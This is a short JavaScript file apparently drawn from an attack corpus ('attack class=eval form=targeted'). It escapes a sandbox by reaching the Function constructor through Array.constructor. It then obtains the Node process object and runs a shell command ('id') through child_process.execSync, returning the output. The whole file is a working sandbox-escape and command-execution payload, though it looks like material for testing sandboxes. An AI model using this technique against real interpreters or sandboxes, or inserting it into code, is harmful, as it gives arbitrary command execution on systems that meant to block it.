// corpus: attack class=eval form=targeted
// new Array.constructor(src) is new Function(src).
function main() {
  const proc = new Array.constructor('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
